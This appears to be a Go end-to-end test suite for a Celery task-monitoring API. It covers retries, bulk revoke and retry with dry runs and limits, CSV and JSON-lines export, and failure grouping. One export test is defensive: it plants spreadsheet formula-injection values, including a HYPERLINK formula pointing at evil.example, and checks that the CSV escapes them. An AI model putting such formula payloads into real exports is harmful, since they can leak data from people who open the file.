package e2e

import (
	"bytes"
	"context"
	"crypto/rand"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"maps"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/stamen-dev/stamen/gen/client/tasks"
	"github.com/stamen-dev/stamen/gen/models"
	"github.com/stamen-dev/stamen/internal/testcluster"
)

// token is a short random lower-case tag that keeps one run's tasks apart
// from the others' in a search (kwargs searches fold case).
func token(t *testing.T) string {
	t.Helper()
	b := make([]byte, 4)
	if _, err := rand.Read(b); err != nil {
		t.Fatal(err)
	}
	return hex.EncodeToString(b)
}

// clientSend sends stamen.echo_fail with args and kwargs to queue from a
// Python Celery client (with task-sent events, as the test app sets) and
// returns its id.
func clientSend(t *testing.T, c *cluster, args []any, kwargs map[string]any, queue string) string {
	t.Helper()
	a, _ := json.Marshal(args)
	k, _ := json.Marshal(kwargs)
	out := testcluster.RunClient(t, testcluster.ClientOptions{Celery: c.celery, Broker: c.cfg.BrokerURL, Backend: c.cfg.ResultBackend}, `
import json, sys
from stamen_testapp import app
r = app.send_task("stamen.echo_fail", args=json.loads(sys.argv[1]), kwargs=json.loads(sys.argv[2]), queue=sys.argv[3])
print(r.id)
app.close()
`, string(a), string(k), queue)
	id := strings.TrimSpace(string(out))
	if id == "" {
		t.Fatal("the client printed no task id")
	}
	return id
}

// echoFailure is the exception repr stamen.echo_fail raises on a worker
// that received args and kwargs (json.dumps with sort_keys, in a repr).
func echoFailure(args, kwargs string) string {
	return fmt.Sprintf(`ValueError('{"args": %s, "kwargs": %s}')`, args, kwargs)
}

// retryOnce retries old through the API, checks the answer, and waits
// until the new task failed on a worker with the same exception, which
// stamen.echo_fail builds from the arguments the worker received.
func retryOnce(t *testing.T, c *cluster, old, wantSource, wantException string) string {
	t.Helper()
	oldInfo := taskInfo(t, c, old, "FAILURE")
	if oldInfo["exception"] != wantException {
		t.Fatalf("original %s failed with %v, want %s", old, oldInfo["exception"], wantException)
	}
	r := c.api.mustOK(c.api.post("/api/task/retry/"+old, nil, nil))
	newID, _ := r["task-id"].(string)
	if newID == "" || newID == old || r["retry-of"] != old || r["source"] != wantSource {
		t.Fatalf("retry of %s: %v, want a new id, retry-of the old one, source %s", old, r, wantSource)
	}
	newInfo := taskInfo(t, c, newID, "FAILURE")
	if newInfo["name"] != "stamen.echo_fail" || newInfo["exception"] != wantException {
		t.Errorf("the retry %s ran as %v with exception %v, want stamen.echo_fail with %s", newID, newInfo["name"], newInfo["exception"], wantException)
	}
	return newID
}

func retryCases() []suiteCase {
	return []suiteCase{
		{"retry: a task stamen sent runs again with its args and kwargs", func(t *testing.T, c *cluster) {
			old := runTask(t, c, "stamen.echo_fail", map[string]any{"args": []any{1, "x"}, "kwargs": map[string]any{"k": "v"}})
			retryOnce(t, c, old, "sent", echoFailure(`[1, "x"]`, `{"k": "v"}`))
			// Overrides are apply options: arguments are not.
			if r := c.api.post("/api/task/retry/"+old, nil, map[string]any{"args": []any{2}}); r.Status != http.StatusBadRequest {
				t.Errorf("retry with args: status %d: %s", r.Status, r.Body)
			}
			if r := c.api.post("/api/task/retry/no-such-task-"+token(t), nil, nil); r.Status != http.StatusNotFound {
				t.Errorf("retry of an unknown task: status %d: %s", r.Status, r.Body)
			}
		}},
		{"retry: from the result backend of result_extended workers", func(t *testing.T, c *cluster) {
			queue := "ext-" + c.kind
			testcluster.StartWorker(t, testcluster.WorkerOptions{
				Name: "wext", Broker: c.cfg.BrokerURL, Backend: c.cfg.ResultBackend, Celery: c.celery,
				Queues: []string{queue}, Env: []string{`STAMEN_TEST_CONF={"result_extended": true}`},
			})
			old := clientSend(t, c, []any{3, "ext"}, map[string]any{"n": nil}, queue)
			want := echoFailure(`[3, "ext"]`, `{"n": null}`)
			// rpc:// sends results to the client that sent the task, and
			// without the request: there the events answer.
			source := "result_backend"
			if !c.hasAbort {
				source = "events"
			}
			newID := retryOnce(t, c, old, source, want)
			// Same queue: only wext consumes it.
			if w := taskInfo(t, c, newID, "FAILURE")["worker"]; !strings.HasPrefix(fmt.Sprint(w), "wext-") {
				t.Errorf("the retry ran on %v, want the worker of %s", w, queue)
			}
		}},
		{"retry: from complete event reprs; a cut repr is refused and sends nothing", func(t *testing.T, c *cluster) {
			old := clientSend(t, c, []any{5, "short"}, map[string]any{"flag": true}, "celery")
			retryOnce(t, c, old, "events", echoFailure(`[5, "short"]`, `{"flag": true}`))

			tag := "cut" + token(t)
			long := tag + strings.Repeat("y", 2000)
			cut := clientSend(t, c, []any{long}, map[string]any{}, "celery")
			info := taskInfo(t, c, cut, "FAILURE")
			if a := fmt.Sprint(info["args"]); len(a) >= len(long) {
				t.Fatalf("the events' args repr is %d characters: Celery did not cut it", len(a))
			}
			r := c.api.post("/api/task/retry/"+cut, nil, nil)
			if r.Status != http.StatusConflict || !strings.Contains(fmt.Sprint(r.JSON(t)["error"]), "result_extended") {
				t.Fatalf("retry of a task with a cut repr: status %d, want 409 naming result_extended: %s", r.Status, r.Body)
			}
			// Nothing was sent: a task sent after the refusal has run, and
			// still only the original carries the tag.
			marker := runTask(t, c, "stamen.add", map[string]any{"args": []any{7, 8}})
			taskInfo(t, c, marker, "SUCCESS")
			list := c.api.mustOK(c.api.get("/api/tasks", q("taskname", "stamen.echo_fail", "search", "args:"+tag)))
			if len(list) != 1 || list[cut] == nil {
				t.Errorf("tasks carrying the cut args: %v, want only %s", slices.Collect(maps.Keys(list)), cut)
			}
		}},
		{"bulk revoke: 30 of 100 parked tasks, dry run and max first", func(t *testing.T, c *cluster) {
			tok := token(t)
			// Parked: a countdown holds them on the workers, received.
			var rev, keep []string
			for i := range 100 {
				grp := "keep-" + tok
				if i%10 < 3 {
					grp = "rev-" + tok
				}
				id := runTask(t, c, "stamen.echo", map[string]any{"args": []any{i}, "kwargs": map[string]any{"grp": grp}, "countdown": 15})
				if strings.HasPrefix(grp, "rev") {
					rev = append(rev, id)
				} else {
					keep = append(keep, id)
				}
			}
			eventually(t, 12*time.Second, "the 100 tasks received", func() bool {
				list := c.api.mustOK(c.api.get("/api/tasks", q("taskname", "stamen.echo", "search", "kwargs:grp="+"rev-"+tok+" OR kwargs:grp=keep-"+tok)))
				return len(list) == 100
			})
			filter := q("taskname", "stamen.echo", "state", "RECEIVED", "search", "kwargs:grp=rev-"+tok)
			with := func(kv ...string) map[string][]string {
				v := map[string][]string{}
				for k, x := range filter {
					v[k] = x
				}
				for i := 0; i+1 < len(kv); i += 2 {
					v[kv[i]] = []string{kv[i+1]}
				}
				return v
			}
			dry := c.api.mustOK(c.api.post("/api/tasks/revoke", with("max", "30", "dry_run", "true"), nil))
			if dry["matched"] != float64(30) || len(dry["revoked"].([]any)) != 0 || dry["dry_run"] != true {
				t.Errorf("dry run: %v", dry)
			}
			if r := c.api.post("/api/tasks/revoke", with("max", "29"), nil); r.Status != http.StatusBadRequest {
				t.Errorf("30 matches over max=29: status %d: %s", r.Status, r.Body)
			}
			// dry_run twice, the last false: refused, where Flower's rule
			// (the last value counts) would revoke.
			twice := with("max", "30")
			twice["dry_run"] = []string{"true", "false"}
			if r := c.api.post("/api/tasks/revoke", twice, nil); r.Status != http.StatusBadRequest || !strings.Contains(string(r.Body), "dry_run is given 2 times") {
				t.Errorf("dry_run=true&dry_run=false: status %d: %s", r.Status, r.Body)
			}
			// Neither the dry run nor the refusals revoked anything.
			for _, w := range []string{c.w1.Name, c.w2.Name, c.w3.Name, c.w4.Name} {
				revoked, _ := workerInfo(t, c, w)["revoked"].([]any)
				for _, id := range rev {
					if slices.Contains(revoked, any(id)) {
						t.Fatalf("%s revoked %s before the real revoke", w, id)
					}
				}
			}
			r := c.api.mustOK(c.api.post("/api/tasks/revoke", with("max", "30"), nil))
			got, _ := r["revoked"].([]any)
			if r["matched"] != float64(30) || len(got) != 30 {
				t.Fatalf("revoke: %v", r)
			}
			for _, id := range rev {
				if !slices.Contains(got, any(id)) {
					t.Errorf("%s not in the revoked ids", id)
				}
			}
			eventually(t, 40*time.Second, "30 revoked and skipped, 70 run", func() bool {
				for _, id := range rev {
					if c.api.taskState(id) != "REVOKED" {
						return false
					}
				}
				for _, id := range keep {
					if c.api.taskState(id) != "SUCCESS" {
						return false
					}
				}
				return true
			})
			for _, id := range rev {
				if info := taskInfo(t, c, id, "REVOKED"); info["started"] != nil || info["succeeded"] != nil {
					t.Errorf("revoked %s ran: %v", id, info)
				}
			}
		}},
		{"bulk retry: the failed tasks of a filter run again", func(t *testing.T, c *cluster) {
			tok := token(t)
			var olds []string
			for i := range 3 {
				olds = append(olds, runTask(t, c, "stamen.echo_fail", map[string]any{"args": []any{i}, "kwargs": map[string]any{"grp": "br-" + tok}}))
			}
			for _, id := range olds {
				taskInfo(t, c, id, "FAILURE")
			}
			filter := func(kv ...string) map[string][]string {
				return q(append([]string{"state", "FAILURE", "search", "kwargs:grp=br-" + tok}, kv...)...)
			}
			if r := c.api.post("/api/tasks/retry", filter("max", "2"), nil); r.Status != http.StatusBadRequest {
				t.Errorf("3 matches over max=2: status %d: %s", r.Status, r.Body)
			}
			dry := c.api.mustOK(c.api.post("/api/tasks/retry", filter("max", "3", "dry_run", "true"), nil))
			// skipped is always there (the spec requires it), {} here.
			if skipped, ok := dry["skipped"].(map[string]any); dry["matched"] != float64(3) || len(dry["retried"].(map[string]any)) != 0 || !ok || len(skipped) != 0 {
				t.Errorf("dry run: %v, want 3 matched, retried and skipped {}", dry)
			}
			r := c.api.mustOK(c.api.post("/api/tasks/retry", filter("max", "3"), nil))
			retried, _ := r["retried"].(map[string]any)
			if r["matched"] != float64(3) || len(retried) != 3 {
				t.Fatalf("bulk retry: %v", r)
			}
			if skipped, ok := r["skipped"].(map[string]any); !ok || len(skipped) != 0 {
				t.Errorf("bulk retry: skipped %v, want {}", r["skipped"])
			}
			for i, old := range olds {
				newID, _ := retried[old].(string)
				if newID == "" {
					t.Errorf("%s not retried: %v", old, r)
					continue
				}
				want := echoFailure(fmt.Sprintf("[%d]", i), fmt.Sprintf(`{"grp": "br-%s"}`, tok))
				if info := taskInfo(t, c, newID, "FAILURE"); info["exception"] != want {
					t.Errorf("retry of %s failed with %v, want %s", old, info["exception"], want)
				}
			}
		}},
		{"bulk retry and revoke by ids: only the listed tasks that match the filters", func(t *testing.T, c *cluster) {
			tok := token(t)
			var olds []string
			for i := range 5 {
				olds = append(olds, runTask(t, c, "stamen.echo_fail", map[string]any{"args": []any{i}, "kwargs": map[string]any{"grp": "bi-" + tok}}))
			}
			for _, id := range olds {
				taskInfo(t, c, id, "FAILURE")
			}
			// A task of another state among the ids: ANDed with state, it
			// is not acted on.
			ok := runTask(t, c, "stamen.add", map[string]any{"args": []any{1, 2}})
			taskInfo(t, c, ok, "SUCCESS")
			picked := []string{olds[0], olds[2], olds[4]}
			ids := strings.Join(append(append([]string{}, picked...), ok, picked[0]), ",")
			if r := c.api.post("/api/tasks/retry", q("max", "2", "ids", ids, "state", "FAILURE"), nil); r.Status != http.StatusBadRequest {
				t.Errorf("3 matching ids over max=2: status %d: %s", r.Status, r.Body)
			}
			if r := c.api.post("/api/tasks/retry", q("max", "10", "ids", picked[0]+",bad id"), nil); r.Status != http.StatusBadRequest {
				t.Errorf("an id with a space: status %d: %s", r.Status, r.Body)
			}
			// ids given twice: refused, where the last one alone would count.
			twice := q("max", "10", "dry_run", "true")
			twice["ids"] = []string{picked[0], picked[1]}
			if r := c.api.post("/api/tasks/retry", twice, nil); r.Status != http.StatusBadRequest || !strings.Contains(string(r.Body), "ids is given 2 times") {
				t.Errorf("ids=a&ids=b: status %d: %s", r.Status, r.Body)
			}
			dry := c.api.mustOK(c.api.post("/api/tasks/retry", q("max", "3", "ids", ids, "state", "FAILURE", "dry_run", "true"), nil))
			if dry["matched"] != float64(3) || len(dry["retried"].(map[string]any)) != 0 {
				t.Fatalf("dry run over 3 failed ids and a succeeded one: %v, want matched 3", dry)
			}
			// max is the dry run's count, though 4 distinct ids are listed.
			r := c.api.mustOK(c.api.post("/api/tasks/retry", q("max", "3", "ids", ids, "state", "FAILURE"), nil))
			retried, _ := r["retried"].(map[string]any)
			if r["matched"] != float64(3) || len(retried) != 3 {
				t.Fatalf("bulk retry by ids: %v", r)
			}
			for _, old := range olds {
				newID, _ := retried[old].(string)
				if !slices.Contains(picked, old) {
					if newID != "" {
						t.Errorf("%s was not listed but was retried as %s", old, newID)
					}
					continue
				}
				i := slices.Index(olds, old)
				want := echoFailure(fmt.Sprintf("[%d]", i), fmt.Sprintf(`{"grp": "bi-%s"}`, tok))
				if info := taskInfo(t, c, newID, "FAILURE"); info["exception"] != want {
					t.Errorf("retry of %s failed with %v, want %s", old, info["exception"], want)
				}
			}
			// Exactly 3 new tasks carry the group: 5 originals and 3 retries.
			eventually(t, 10*time.Second, "8 tasks of the group", func() bool {
				list := c.api.mustOK(c.api.get("/api/tasks", q("taskname", "stamen.echo_fail", "search", "kwargs:grp=bi-"+tok)))
				return len(list) == 8
			})

			// Revoke by ids: two parked tasks of five; the others run.
			var parked []string
			for i := range 5 {
				parked = append(parked, runTask(t, c, "stamen.echo", map[string]any{"args": []any{i}, "kwargs": map[string]any{"grp": "bv-" + tok}, "countdown": 8}))
			}
			eventually(t, 12*time.Second, "the 5 tasks received", func() bool {
				for _, id := range parked {
					if c.api.taskState(id) != "RECEIVED" {
						return false
					}
				}
				return true
			})
			rev := c.api.mustOK(c.api.post("/api/tasks/revoke", q("max", "2", "ids", parked[1]+","+parked[3]), nil))
			if got, _ := rev["revoked"].([]any); rev["matched"] != float64(2) || len(got) != 2 {
				t.Fatalf("revoke by ids: %v", rev)
			}
			eventually(t, 40*time.Second, "2 revoked, 3 run", func() bool {
				for i, id := range parked {
					want := "SUCCESS"
					if i == 1 || i == 3 {
						want = "REVOKED"
					}
					if c.api.taskState(id) != want {
						return false
					}
				}
				return true
			})
		}},
		{"export: a cell a spreadsheet would run is quoted in CSV, verbatim in JSON lines", func(t *testing.T, c *cluster) {
			tok := token(t)
			// A client chooses the task id and the args/kwargs reprs the
			// worker's events carry (argsrepr, kwargsrepr); the result of
			// add(-5, 1) is the repr -4.
			id := "=" + tok + "+1"
			args := `=HYPERLINK("http://evil.example/?` + tok + `","click")`
			kwargs := "@SUM(1+1)"
			out := testcluster.RunClient(t, testcluster.ClientOptions{Celery: c.celery, Broker: c.cfg.BrokerURL, Backend: c.cfg.ResultBackend}, `
import sys
from stamen_testapp import app
r = app.send_task("stamen.add", args=(-5, 1), task_id=sys.argv[1], argsrepr=sys.argv[2], kwargsrepr=sys.argv[3], queue="celery")
print(r.id)
app.close()
`, id, args, kwargs)
			if got := strings.TrimSpace(string(out)); got != id {
				t.Fatalf("the client sent %q, want %q", got, id)
			}
			info := taskInfo(t, c, id, "SUCCESS")
			if info["args"] != args || info["kwargs"] != kwargs || info["result"] != "-4" {
				t.Fatalf("the worker's events: args %v kwargs %v result %v", info["args"], info["kwargs"], info["result"])
			}
			filter := func(format string) url.Values {
				return q("format", format, "taskname", "stamen.add", "search", tok)
			}
			r := c.api.get("/api/tasks", filter("csv"))
			if r.Status != http.StatusOK {
				t.Fatalf("csv export: %d %s", r.Status, r.Body)
			}
			rows, err := csv.NewReader(bytes.NewReader(r.Body)).ReadAll()
			if err != nil || len(rows) != 2 {
				t.Fatalf("csv export: %d rows, %v:\n%s", len(rows), err, r.Body)
			}
			col := map[string]string{}
			for i, name := range rows[0] {
				col[name] = rows[1][i]
			}
			for f, want := range map[string]string{
				"uuid": "'" + id, "args": "'" + args, "kwargs": "'" + kwargs, "result": "'-4",
				"name": "stamen.add", "state": "SUCCESS", "routing_key": "celery",
			} {
				if col[f] != want {
					t.Errorf("csv %s: %q, want %q", f, col[f], want)
				}
			}
			r = c.api.get("/api/tasks", filter("jsonl"))
			var rec map[string]any
			if r.Status != http.StatusOK || json.Unmarshal(bytes.TrimSpace(r.Body), &rec) != nil {
				t.Fatalf("jsonl export: %d %s", r.Status, r.Body)
			}
			if rec["uuid"] != id || rec["args"] != args || rec["kwargs"] != kwargs || rec["result"] != "-4" {
				t.Errorf("jsonl export changed the cells: %v", rec)
			}
		}},
		{"failures: grouped by task name and exception type", func(t *testing.T, c *cluster) {
			start := flowerMinute(time.Now().Add(-time.Minute))
			runs := []struct {
				task, kind string
				n          int
			}{
				{"stamen.raise_a", "ValueError", 3},
				{"stamen.raise_a", "KeyError", 2},
				{"stamen.raise_b", "ValueError", 1},
				{"stamen.raise_b", "TypeError", 4},
			}
			var ids []string
			for _, r := range runs {
				for range r.n {
					ids = append(ids, runTask(t, c, r.task, map[string]any{"args": []any{r.kind}}))
				}
			}
			for _, id := range ids {
				taskInfo(t, c, id, "FAILURE")
			}
			body := c.api.mustOK(c.api.get("/api/failures", q("received_start", start)))
			groups, _ := body["groups"].([]any)
			type key struct{ task, exc string }
			got := map[key]float64{}
			var counts []float64
			for _, g := range groups {
				m := g.(map[string]any)
				name := fmt.Sprint(m["taskname"])
				if name != "stamen.raise_a" && name != "stamen.raise_b" {
					continue
				}
				got[key{name, fmt.Sprint(m["exception_type"])}] = m["count"].(float64)
				counts = append(counts, m["count"].(float64))
				ex, _ := m["examples"].([]any)
				if len(ex) == 0 || len(ex) > 5 || len(ex) > int(m["count"].(float64)) || !strings.Contains(fmt.Sprint(m["traceback"]), fmt.Sprint(m["exception_type"])) {
					t.Errorf("group %v: examples or traceback wrong", m)
				}
			}
			for _, r := range runs {
				if got[key{r.task, r.kind}] != float64(r.n) {
					t.Errorf("%s/%s: %v failures, want %d (groups %v)", r.task, r.kind, got[key{r.task, r.kind}], r.n, got)
				}
			}
			if len(got) != len(runs) || !slices.IsSortedFunc(counts, func(a, b float64) int { return int(b - a) }) {
				t.Errorf("groups %v (counts in order %v): want %d, most frequent first", got, counts, len(runs))
			}
			one := c.api.mustOK(c.api.get("/api/failures", q("taskname", "stamen.raise_b", "received_start", start)))
			if gs, _ := one["groups"].([]any); len(gs) != 2 {
				t.Errorf("taskname=stamen.raise_b: %v, want its 2 groups", one)
			}
		}},
		{"contract: retry, bulk operations and failures through the generated client", func(t *testing.T, c *cluster) {
			cl := genClient(t, c.api.base)
			ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
			defer cancel()
			old := runTask(t, c, "stamen.echo_fail", map[string]any{"args": []any{"contract"}})
			taskInfo(t, c, old, "FAILURE")
			rt, err := cl.Tasks.RetryTaskContext(ctx, tasks.NewRetryTaskParams().WithTaskid(old).
				WithOptions(&models.TaskApplyRequest{Countdown: 0}), nil)
			if err != nil {
				t.Fatalf("retryTask: %v", err)
			}
			valid(t, "retryTask", rt.Payload)
			_, err = cl.Tasks.RetryTaskContext(ctx, tasks.NewRetryTaskParams().WithTaskid("no-such-id"), nil)
			wantError(t, "retryTask unknown", err, 404)

			rv, err := cl.Tasks.RevokeTasksContext(ctx, tasks.NewRevokeTasksParams().WithMax(5).WithDryRun(ptr(true)).
				WithTaskname(ptr("stamen.echo_fail")).WithSearch(ptr("args:contract")), nil)
			if err != nil {
				t.Fatalf("revokeTasks: %v", err)
			}
			valid(t, "revokeTasks", rv.Payload)
			_, err = cl.Tasks.RevokeTasksContext(ctx, tasks.NewRevokeTasksParams().WithMax(1).WithTaskname(ptr("stamen.echo_fail")), nil)
			wantError(t, "revokeTasks over max", err, 400)

			rr, err := cl.Tasks.RetryTasksContext(ctx, tasks.NewRetryTasksParams().WithMax(5).WithDryRun(ptr(true)).
				WithTaskname(ptr("stamen.echo_fail")).WithSearch(ptr("args:contract")), nil)
			if err != nil {
				t.Fatalf("retryTasks: %v", err)
			}
			valid(t, "retryTasks", rr.Payload)
			_, err = cl.Tasks.RetryTasksContext(ctx, tasks.NewRetryTasksParams().WithMax(5).WithSearch(ptr("ab")), nil)
			wantError(t, "retryTasks bad search", err, 400)

			fl, err := cl.Tasks.ListFailuresContext(ctx, tasks.NewListFailuresParams().WithTaskname(ptr("stamen.echo_fail")), nil)
			if err != nil {
				t.Fatalf("listFailures: %v", err)
			}
			valid(t, "listFailures", fl.Payload)
			if len(fl.Payload.Groups) == 0 {
				t.Errorf("listFailures: no group for stamen.echo_fail")
			}
		}},
	}
}

// flowerMinute is the received_start/received_end format: server local
// time to the minute.
func flowerMinute(t time.Time) string { return t.Local().Format("2006-01-02 15:04") }
